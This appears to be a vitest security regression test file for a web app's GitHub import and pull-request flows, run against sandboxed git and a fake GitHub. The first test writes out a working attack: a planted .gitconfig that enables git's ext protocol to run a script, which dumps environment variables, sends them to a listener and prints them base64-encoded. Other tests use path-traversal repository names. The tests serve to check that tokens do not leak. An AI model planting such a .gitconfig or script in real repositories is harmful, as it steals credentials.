// Attacks on the GitHub flows from a browser session, run for real as CI runs them (root, Local
// sandboxes under bubblewrap with an own network each, a loopback GitHub of git http-backend and
// a REST stand-in): a planted .gitconfig, racing the import's sandbox, an anonymous visitor using
// the operator's token, a pasted token that silently falls back, and a URL that climbs out of the
// owner. Each one leaked the token or reached what it should not before issue 20.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import type { RepoEvent } from '~/lib/git/repo-events';
import { repoFlowHarness } from '../support/repo-flows';

const { github, model, contextWith, routes, events, provider } = repoFlowHarness(24400);

const same = { 'content-type': 'application/json', host: 'localhost', origin: 'http://localhost', 'sec-fetch-site': 'same-origin' };
const post = (path: string, body: unknown, cookie = '') => new Request(`http://localhost${path}`, { method: 'POST', headers: { ...same, ...(cookie ? { cookie } : {}) }, body: JSON.stringify(body) });

/** Every way the token could show in text: as it is, and base64 at each alignment, alone or as git's Basic credential. */
function tokenForms(token: string): string[] {
  const forms = [token];
  for (const secret of [token, `x-access-token:${token}`]) {
    for (let shift = 0; shift < 3; shift++) {
      const encoded = Buffer.from(`${'x'.repeat(shift)}${secret}`).toString('base64');
      // Drop the characters that mix in the bytes around the secret.
      forms.push(encoded.slice(Math.ceil((shift * 4) / 3) + 1, -4));
    }
  }
  return forms;
}

function leaks(text: string, token: string): string[] {
  return tokenForms(token).filter((form) => text.includes(form));
}

async function sessionWithToken(context: ReturnType<typeof contextWith>, token: string): Promise<string> {
  const first = await routes().tokenStatus({ request: new Request('http://localhost/api/github/token', { headers: same }), context });
  const cookie = first.headers.get('set-cookie')!.split(';')[0];
  const put = await routes().token({ request: new Request('http://localhost/api/github/token', { method: 'PUT', headers: { ...same, cookie }, body: JSON.stringify({ token }) }), context });
  expect(put.status).toBe(200);
  return cookie;
}

describe('GitHub flows under attack', () => {
  it('a .gitconfig planted by one pull request cannot make the next one hand out the token', async () => {
    const context = contextWith();
    const cookie = await sessionWithToken(context, github.token);
    const base = github.createRepo('acme/planted', { 'index.html': '<h1>Hi</h1>\n' }, { private: true });
    const host = new URL(github.url).origin;
    // A listener where the sandbox can send what it finds (the fake GitHub's address is reachable from sandboxes).
    const stolen: string[] = [];
    const thief = createServer((req, res) => {
      stolen.push(decodeURIComponent(req.url ?? ''));
      res.end();
    });
    await new Promise<void>((resolve) => thief.listen(0, new URL(github.url).hostname, resolve));
    const drop = `http://${new URL(github.url).hostname}:${(thief.address() as AddressInfo).port}`;
    // git-remote-ext runs its command with the fetching git's environment: send whatever git was
    // given to the listener, and print it base64-encoded where a failed fetch's output is shown.
    const steal = `env > /tmp/env.txt; node -e "fetch('${drop}/?e=' + encodeURIComponent(require('fs').readFileSync('/tmp/env.txt', 'utf8'))).catch(() => {}).finally(() => {})"; sleep 1; base64 -w0 /tmp/env.txt >&2; exit 1\n`;
    const gitconfig = `[protocol "ext"]\n\tallow = always\n[url "ext::sh steal.sh "]\n\tinsteadOf = ${host}/\n`;
    model.script({ match: 'Write the pull request title', reply: 'Add settings\n\nSettings.' });
    const first = await events(
      await routes().pullRequest({ request: post('/api/github/pull-request', { repoUrl: `${github.url}/acme/planted`, baseBranch: 'main', baseCommit: base, files: { 'index.html': '<h1>Hi</h1>\n', '.gitconfig': gitconfig, 'steal.sh': steal }, deleted: [], requests: ['Add settings'], summary: '', model: 'fake/coder' }, cookie), context }),
    );
    const opened = first.find((e): e is Extract<RepoEvent, { type: 'pr_opened' }> => e.type === 'pr_opened');
    expect(opened, JSON.stringify(first)).toBeDefined();
    // The second pull request is based on that branch, at a commit that is not its tip.
    model.script({ match: 'Write the pull request title', reply: 'Greet\n\nHello.' });
    const second = await events(
      await routes().pullRequest({ request: post('/api/github/pull-request', { repoUrl: `${github.url}/acme/planted`, baseBranch: opened!.branch, baseCommit: base, files: { 'index.html': '<h1>Hello</h1>\n' }, deleted: [], requests: ['Greet'], summary: '', model: 'fake/coder' }, cookie), context }),
    );
    thief.close();
    expect(leaks(JSON.stringify([first, second]), github.token)).toEqual([]);
    expect(leaks(stolen.join('\n'), github.token)).toEqual([]);
    // …and the pull request went through, based where the chat said.
    const again = second.find((e): e is Extract<RepoEvent, { type: 'pr_opened' }> => e.type === 'pr_opened');
    expect(again, JSON.stringify(second)).toBeDefined();
    expect(github.commitInfo('acme/planted', again!.branch).parent).toBe(base);
    expect(github.fileAt('acme/planted', again!.branch, 'index.html')).toBe('<h1>Hello</h1>\n');
  }, 180_000);

  it('an import has no sandbox the session could list or run commands in while the token is in use', async () => {
    const context = contextWith();
    const cookie = await sessionWithToken(context, github.token);
    github.createRepo('acme/raced', { 'a.txt': 'a\n', 'b.txt': 'b\n' }, { private: true });
    const list = (await import('~/routes/api.sandboxes._index')).loader as unknown as (args: { request: Request; context: unknown }) => Promise<Response>;
    const exec = (await import('~/routes/api.sandboxes.$id.exec')).action as unknown as (args: { request: Request; context: unknown; params: Record<string, string> }) => Promise<Response>;
    const seen = new Set<string>();
    const ran: string[] = [];
    let importing = true;
    const racer = (async () => {
      while (importing) {
        const listed = (await (await list({ request: new Request('http://localhost/api/sandboxes', { headers: { ...same, cookie } }), context })).json()) as { sandboxes?: Array<{ id: string; project: string }> };
        for (const sandbox of listed.sandboxes ?? []) {
          seen.add(`${sandbox.project}:${sandbox.id}`);
          const answer = await exec({ request: post(`/api/sandboxes/${sandbox.id}/exec`, { command: 'echo in-the-flow-sandbox' }, cookie), context, params: { id: sandbox.id } });
          if (answer.status === 200 && (await answer.text()).includes('in-the-flow-sandbox')) ran.push(sandbox.id);
        }
        // Also: no sandbox of any owner exists for the import at all.
        for (const sandbox of await provider().list({})) seen.add(`any:${sandbox.labels.project ?? '?'}`);
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    })();
    const imported = await events(await routes().importRepo({ request: post('/api/github/import', { repoUrl: `${github.url}/acme/raced` }, cookie), context }));
    importing = false;
    await racer;
    expect(imported.find((e) => e.type === 'imported'), JSON.stringify(imported)).toMatchObject({ files: { 'a.txt': 'a\n', 'b.txt': 'b\n' } });
    expect([...seen]).toEqual([]);
    expect(ran).toEqual([]);
  }, 120_000);

  it('a visitor without a token of their own does not get the operator\'s: no private import, no push', async () => {
    const base = github.createRepo('acme/operator-only', { 'a.txt': 'a\n' }, { private: true });
    github.createRepo('acme/public-one', { 'a.txt': 'a\n' });
    const context = contextWith();
    // No cookie at all, as a script would send it.
    const anonymous = (path: string, body: unknown) => new Request(`http://localhost${path}`, { method: 'POST', headers: same, body: JSON.stringify(body) });
    const imported = await events(await routes().importRepo({ request: anonymous('/api/github/import', { repoUrl: `${github.url}/acme/operator-only` }), context }));
    expect(imported.find((e) => e.type === 'imported')).toBeUndefined();
    expect(imported.find((e) => e.type === 'error')).toMatchObject({ status: 401, message: 'The repository is private or does not exist: add a GitHub token that can read it.' });
    const status = await routes().tokenStatus({ request: new Request('http://localhost/api/github/token', { headers: same }), context });
    expect(await status.json()).toEqual({ source: null });
    const pull = await routes().pullRequest({ request: anonymous('/api/github/pull-request', { repoUrl: `${github.url}/acme/operator-only`, baseBranch: 'main', baseCommit: base, files: { 'a.txt': 'pushed by a stranger\n' }, deleted: [], requests: ['x'], summary: '', model: 'fake/coder' }), context });
    expect(pull.status).toBe(401);
    expect(((await pull.json()) as { error: string }).error).toMatch(/paste/i);
    expect(github.branches('acme/operator-only')).toEqual(['main']);
    // Public repositories still import without any token.
    const open = await events(await routes().importRepo({ request: anonymous('/api/github/import', { repoUrl: `${github.url}/acme/public-one` }), context }));
    expect(open.find((e) => e.type === 'imported')).toMatchObject({ files: { 'a.txt': 'a\n' } });
  }, 120_000);

  it('lends the operator\'s token only for the repositories the operator names, and never to a session that pasted its own', async () => {
    github.createRepo('shared/app', { 'a.txt': 'shared\n' }, { private: true });
    github.createRepo('acme/not-named', { 'a.txt': 'a\n' }, { private: true });
    const context = contextWith({ GITHUB_TOKEN_LEND: 'shared/*' });
    const anonymous = (body: unknown, cookie = '') => post('/api/github/import', body, cookie);
    const named = await events(await routes().importRepo({ request: anonymous({ repoUrl: `${github.url}/shared/app` }), context }));
    expect(named.find((e) => e.type === 'imported')).toMatchObject({ files: { 'a.txt': 'shared\n' } });
    const other = await events(await routes().importRepo({ request: anonymous({ repoUrl: `${github.url}/acme/not-named` }), context }));
    expect(other.find((e) => e.type === 'error')).toMatchObject({ status: 401 });
    // A session whose own token GitHub refuses gets that refusal, not the operator's token.
    const cookie = await sessionWithToken(context, `ghp_${'0'.repeat(36)}`);
    const own = await events(await routes().importRepo({ request: anonymous({ repoUrl: `${github.url}/shared/app` }, cookie), context }));
    expect(own.find((e) => e.type === 'imported')).toBeUndefined();
    expect(own.find((e) => e.type === 'error')).toMatchObject({ status: 401, message: 'GitHub refused the token for this repository: check that it is valid and may read the repository.' });
  }, 120_000);

  it('refuses repository names that climb out of the owner (../site) before any request', async () => {
    const context = contextWith();
    const before = github.requests.length;
    for (const repoUrl of ['../site', `${github.url}/../site`, './site', 'acme/..', '.hidden/site', 'acme/.', '..%2fsite/x']) {
      const answer = await routes().importRepo({ request: post('/api/github/import', { repoUrl }), context });
      expect(answer.status, repoUrl).toBe(400);
    }
    expect(github.requests.slice(before)).toEqual([]);
  });
});
